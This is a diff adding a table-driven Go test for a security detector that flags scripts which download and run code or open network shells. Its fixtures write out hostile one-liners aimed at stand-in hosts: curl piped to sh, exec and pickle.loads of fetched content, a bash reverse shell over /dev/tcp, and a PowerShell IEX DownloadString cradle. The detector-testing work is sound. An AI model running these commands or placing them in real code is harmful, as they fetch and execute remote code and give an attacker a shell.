@@ -203,6 +203,37 @@ func TestNamedAfter(t *testing.T) {
 	}
 }
 
+// TestMessages: what a source does, and where, in the words of its language.
+func TestMessages(t *testing.T) {
+	const shell = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"
+	for _, c := range []struct {
+		name, file, text, rule, says, step string
+		line                               int
+	}{
+		{name: "a call with a text", file: "a.py", text: "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n", rule: "source-runs-hidden-code",
+			says: "a.py calls os.system, which starts curl | sh, which runs what it reads from curl.", step: "os.system: curl -s http://192.0.2.1/x | sh", line: 2},
+		{name: "a function", file: "a.py", text: "import requests\nexec(requests.get('https://example.org/x.py').text)\n", rule: "source-runs-hidden-code",
+			says: "a.py uses exec, which runs what requests.get brings.", step: "exec", line: 2},
+		{name: "a loader", file: "a.py", text: "import requests, pickle\npickle.loads(requests.get('https://example.org/m').content)\n", rule: "source-runs-download",
+			says: "a.py uses pickle.loads, which runs what requests.get brings.", step: "pickle.loads", line: 2},
+		{name: "an installer", file: "a.sh", text: "set -e\ncurl -fsSL https://example.org/install.sh | sh\n", rule: "source-runs-download",
+			says: "a.sh uses curl | sh, which runs what it reads from curl.", step: "curl | sh: sh", line: 2},
+		{name: "a connection", file: "a.sh", text: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", rule: "source-runs-hidden-code",
+			says: "a.sh calls /dev/tcp/192.0.2.1/4444, which connects to the network.", step: "/dev/tcp/192.0.2.1/4444: bash -i >/dev/tcp/192.0.2.1/4444", line: 1},
+		{name: "a line of a batch file", file: "a.bat", text: "@echo off\r\necho x\r\npowershell " + shell + "\r\n", rule: "source-runs-hidden-code",
+			says: "a.bat calls IEX, which runs what DownloadString brings.", step: "IEX: IEX", line: 3},
+	} {
+		got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text))
+		if len(got.Findings) != 1 {
+			t.Errorf("%s: got %+v, want one finding", c.name, got.Findings)
+			continue
+		}
+		if f := got.Findings[0]; f.Rule.ID != c.rule || f.Message != c.says || f.Evidence[0].Text != c.step || f.Location.Line != c.line {
+			t.Errorf("%s: got %s %q, %q in line %d, want %s %q, %q in line %d", c.name, f.Rule.ID, f.Message, f.Evidence[0].Text, f.Location.Line, c.rule, c.says, c.step, c.line)
+		}
+	}
+}
+
 // TestLanguages: a source is known by its name, or by its first line.
 func TestLanguages(t *testing.T) {
 	const fetch = "curl -s http://192.0.2.1/x | sh"
